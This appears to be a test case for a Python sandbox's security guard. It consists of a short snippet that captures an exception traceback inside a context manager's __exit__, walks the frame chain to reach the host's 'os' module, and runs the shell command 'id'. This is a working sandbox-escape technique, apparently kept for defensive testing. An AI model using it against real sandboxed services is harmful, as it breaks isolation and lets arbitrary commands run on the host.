# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the traceback that __exit__ is given
kept = []
class Catch:
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        kept.append(trace)
        return True
with Catch():
    1 / 0
return "ESCAPED " + getattr(kept[0], "tb_frame").f_back.f_globals["os"].popen("id").read()
